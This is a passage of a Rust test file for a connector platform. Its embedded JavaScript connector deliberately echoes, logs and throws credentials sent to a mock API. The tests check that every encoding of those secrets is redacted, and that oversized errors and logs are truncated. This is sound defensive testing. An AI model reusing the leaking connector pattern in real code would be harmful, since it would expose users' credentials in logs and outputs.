  actions: {
    echo: {
      title: "Echo",
      execute: (connection, input) => {
        const answer = post("/echo?key=" + connection.token, { password: connection.password, token: connection.token });
        console.log(answer);
        print(`token ${connection.token}, password ${connection.password}`);
        return answer;
      },
    },
    throw_echo: {
      title: "Throw the echo",
      execute: (connection, input) => { throw get("/echo", { token: connection.token }); },
    },
    refused: {
      title: "An HTTP error that quotes the request",
      execute: (connection, input) => get("/denied", { token: connection.token, password: connection.password }),
    },
  },
  triggers: {
    echoes: {
      title: "Echoes",
      poll: (connection, input, cursor) => ({ events: [get("/echo", { token: connection.token })], cursor: connection.token }),
    },
  },
};
"#;

/// Every spelling of `secret` an API could send it back in.
fn spellings(secret: &str) -> Vec<String> {
    let percent = |upper: bool| -> String {
        secret
            .bytes()
            .map(|b| match (b.is_ascii_alphanumeric(), upper) {
                (true, _) => char::from(b).to_string(),
                (false, true) => format!("%{b:02X}"),
                (false, false) => format!("%{b:02x}"),
            })
            .collect()
    };
    let escaped = serde_json::to_string(secret).unwrap_or_default();
    vec![
        secret.to_owned(),
        percent(true),
        percent(false),
        percent(true).replace("%20", "+"),
        escaped.trim_matches('"').to_owned(),
    ]
}

/// The base64 of `user:password`, as a basic `Authorization` header carries it.
fn basic_credentials() -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes = format!("{ECHO_USER}:{ECHO_PASSWORD}").into_bytes();
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, b)| n | u32::from(*b) << (16 - 8 * i));
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(char::from(ALPHABET[(n >> (18 - 6 * i) & 63) as usize]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// The whole HTTP answer, as text, holds no secret in any spelling.
fn assert_no_secret(label: &str, body: &Value) {
    let text = body.to_string();
    let mut needles = vec![basic_credentials()];
    for secret in [ECHO_USER, ECHO_PASSWORD, ECHO_TOKEN] {
        needles.extend(spellings(secret));
    }
    for needle in needles {
        assert!(
            !text.contains(&needle),
            "{label}: `{needle}` leaked in {text}"
        );
    }
}

async fn echoed_secrets(backend: Backend) -> anyhow::Result<()> {
    let api = Mock::echo()?;
    let app = TestApp::spawn_with(backend, point_at(&[("api.echo.test", api.addr)])).await?;
    let author = app.user_with_token("author").await?;
    let dev = app.user_with_token("dev").await?;
    create_listing(&app, &author, "echo", "1.0.0", ECHO_CONNECTOR).await?;
    create_workspace(&app, &dev, "lab").await?;
    let copy = install(&app, &dev, "lab", "echo").await?;
    let values = json!({ "user": ECHO_USER, "password": ECHO_PASSWORD, "token": ECHO_TOKEN });
    let body = app
        .graphql(
            Some(&dev),
            CREATE_CONNECTION,
            json!({ "input": { "workspace": "lab", "name": "Echo", "connector": "echo", "values": values } }),
        )
        .await?;
    let p = payload(&body, "createConnection")?;
    assert_eq!(p["userErrors"], json!([]), "{body}");
    let stored = json!({ "workspaceConnectorId": copy, "connectionId": p["connection"]["id"] });
    let given = json!({ "workspaceConnectorId": copy, "connectionValues": values });

    for target in [stored, given] {
        // runAction: the echo is the output, the logs quote it, and the trace records it.
        let body = debug(
            &app,
            &dev,
            "runAction",
            json!({ "target": target.clone(), "action": "echo" }),
        )
        .await?;
        assert_no_secret("runAction echo", &body);
        let run = &payload(&body, "runAction")?["run"];
        assert_eq!(run["ok"], true, "{body}");
        let output = &run["output"];
        // The API did get the credentials and sent them back: the output keeps its shape.
        assert_eq!(output["headers"]["authorization"], "Basic [REDACTED]");
        assert_eq!(output["target"], "/echo?key=[REDACTED]");
        assert_eq!(
            serde_json::from_str::<Value>(output["body"].as_str().unwrap_or_default())?,
            json!({ "password": "[REDACTED]", "token": "[REDACTED]" })
        );
        assert_eq!(run["logs"][1], "token [REDACTED], password [REDACTED]");
        assert_eq!(
            header(&run["trace"][0]["responseHeaders"], "x-echo-authorization"),
            Some("Basic [REDACTED]")
        );
        assert_eq!(run["truncated"], false, "{body}");

        // The error message: a thrown echo, and an HTTP error quoting the request.
        let body = debug(
            &app,
            &dev,
            "runAction",
            json!({ "target": target.clone(), "action": "throw_echo" }),
        )
        .await?;
        assert_no_secret("runAction throw", &body);
        let run = &payload(&body, "runAction")?["run"];
        assert_eq!(run["error"]["code"], "RUNTIME", "{body}");
        let message = run["error"]["message"].as_str().unwrap_or_default();
        assert!(message.contains("Basic [REDACTED]"), "{body}");
        let body = debug(
            &app,
            &dev,
            "runAction",
            json!({ "target": target.clone(), "action": "refused" }),
        )
        .await?;
        assert_no_secret("runAction refused", &body);
        assert_eq!(payload(&body, "runAction")?["run"]["error"]["code"], "HTTP");

        // testConnection and pollTrigger.
        let body = debug(
            &app,
            &dev,
            "testConnection",
            json!({ "target": target.clone() }),
        )
        .await?;
        assert_no_secret("testConnection", &body);
        let run = &payload(&body, "testConnection")?["run"];
        assert_eq!(
            run["output"]["headers"]["authorization"], "Basic [REDACTED]",
            "{body}"
        );
        let body = debug(
            &app,
            &dev,
            "pollTrigger",
            json!({ "target": target.clone(), "trigger": "echoes" }),
        )
        .await?;
        assert_no_secret("pollTrigger", &body);
        let run = &payload(&body, "pollTrigger")?["run"];
        assert_eq!(run["output"]["next_cursor"], "[REDACTED]", "{body}");
        assert_eq!(
            run["output"]["events"][0]["headers"]["authorization"], "Basic [REDACTED]",
            "{body}"
        );
    }
    app.stop().await
}

tests::on_both_backends!(
    secrets_an_api_echoes_back_appear_nowhere_in_the_answer,
    super::echoed_secrets
);

// ---- Answers that would be too large. ----

/// A connector whose `run` action runs `body`.
fn runner(body: &str) -> String {
    format!(
        r#"export default {{
  title: "Big",
  actions: {{ run: {{ title: "Run", execute: (connection, input) => {{ {body} }} }} }},
}};
"#
    )
}

async fn capped_answers(backend: Backend) -> anyhow::Result<()> {
    let app = TestApp::spawn(backend).await?;
    let author = app.user_with_token("author").await?;
    let dev = app.user_with_token("dev").await?;
    create_workspace(&app, &dev, "lab").await?;
    let cases = [
        (
            "thrower",
            r#"let s = "x"; while (s.length < 1048576) { s += s; } throw s;"#,
        ),
        (
            "chatty",
            r#"let line = "y"; while (line.length < 8192) { line += line; } for (let i = 0; i < 1000; i++) { console.log(line); } return 1;"#,
        ),
    ];
    let mut runs = Vec::new();
    for (slug, body) in cases {
        create_listing(&app, &author, slug, "1.0.0", &runner(body)).await?;
        let copy = install(&app, &dev, "lab", slug).await?;
        let input = json!({ "target": { "workspaceConnectorId": copy }, "action": "run" });
        let answer = debug(&app, &dev, "runAction", input).await?;
        runs.push((
            answer.to_string().len(),
            payload(&answer, "runAction")?["run"].clone(),
        ));
    }

    // A 1 MiB thrown string: the error message is cut to 4 KiB and says so.
    let (size, thrown) = &runs[0];
    assert_eq!(thrown["error"]["code"], "RUNTIME", "{thrown}");
    let message = thrown["error"]["message"].as_str().unwrap_or_default();
    assert!(message.len() < 4096 + 200, "{} bytes", message.len());
    assert!(
        message.ends_with("… [truncated 1044480 bytes]"),
        "{}",
        &message[message.len().saturating_sub(60)..]
    );
    assert_eq!(thrown["truncated"], true);
    assert_eq!(thrown["truncation"]["errorCut"], true);
    assert!(*size < 16 * 1024, "the answer was {size} bytes");

    // 1,000 log lines of 8 KiB: 200 lines of 2 KiB are kept, each says it was cut, and the
    // answer says how many were dropped.
    let (size, chatty) = &runs[1];
    assert_eq!(chatty["ok"], true, "{chatty}");
    let logs = chatty["logs"].as_array().cloned().unwrap_or_default();
    assert_eq!(logs.len(), 200);
    assert!(logs.iter().all(|line| {
        line.as_str()
            .is_some_and(|l| l.len() < 2048 + 48 && l.ends_with("… [truncated 6144 bytes]"))
    }));
    assert_eq!(
        chatty["truncation"],
        json!({ "outputBytes": null, "logLinesDropped": 800, "logLinesCut": 200,
                "errorCut": false, "traceTextsCut": 0 })
    );
    assert_eq!(chatty["truncated"], true);
    assert!(*size < 450 * 1024, "the answer was {size} bytes");
    app.stop().await
}

tests::on_both_backends!(oversized_answers_are_cut_and_say_so, super::capped_answers);

/// `value` with every number as a float, to compare JSON numbers by value.
fn as_f64(value: &Value) -> Value {
    match value {
        Value::Number(n) => n.as_f64().map_or(Value::Null, |f| json!(f)),
        Value::Array(items) => Value::Array(items.iter().map(as_f64).collect()),
        Value::Object(map) => {
            Value::Object(map.iter().map(|(k, v)| (k.clone(), as_f64(v))).collect())
        }
        other => other.clone(),
    }
}
